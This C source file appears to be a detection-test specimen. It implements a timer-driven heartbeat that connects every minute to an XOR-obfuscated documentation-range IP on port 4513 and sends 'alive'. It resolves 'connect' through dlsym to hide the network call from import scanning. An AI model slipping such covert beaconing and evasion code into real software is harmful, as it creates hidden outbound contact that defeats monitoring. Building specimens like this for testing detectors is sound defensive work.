/* SPDX-License-Identifier: GPL-2.0-or-later */
/* A timer's thread calls; the library function that opens the way is asked for by its name. */
#define _GNU_SOURCE
#include "specimen.h"

#include <dlfcn.h>
#include <signal.h>
#include <time.h>

static uint32_t peer[2] = { 0xcb007137 ^ 0x3c3c3c3c, 4513 };

static void beat(union sigval v)
{
	const uint32_t *p = v.sival_ptr;
	int (*way)(int, const struct sockaddr *, socklen_t) =
		(int (*)(int, const struct sockaddr *, socklen_t))dlsym(RTLD_DEFAULT, "connect");
	struct sockaddr_in to = { .sin_family = AF_INET };
	to.sin_addr.s_addr = htonl(p[0] ^ 0x3c3c3c3c);
	to.sin_port = htons((uint16_t)p[1]);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (way && way(s, (struct sockaddr *)&to, sizeof(to)) == 0)
		tell(s, "alive");
}

int main(void)
{
	struct sigevent e = { .sigev_notify = SIGEV_THREAD };
	struct itimerspec every = { { 60, 0 }, { 1, 0 } };
	timer_t t;
	e.sigev_notify_function = beat;
	e.sigev_value.sival_ptr = peer;
	if (timer_create(CLOCK_MONOTONIC, &e, &t) || timer_settime(t, 0, &every, NULL))
		return 1;
	for (;;)
		pause();
}
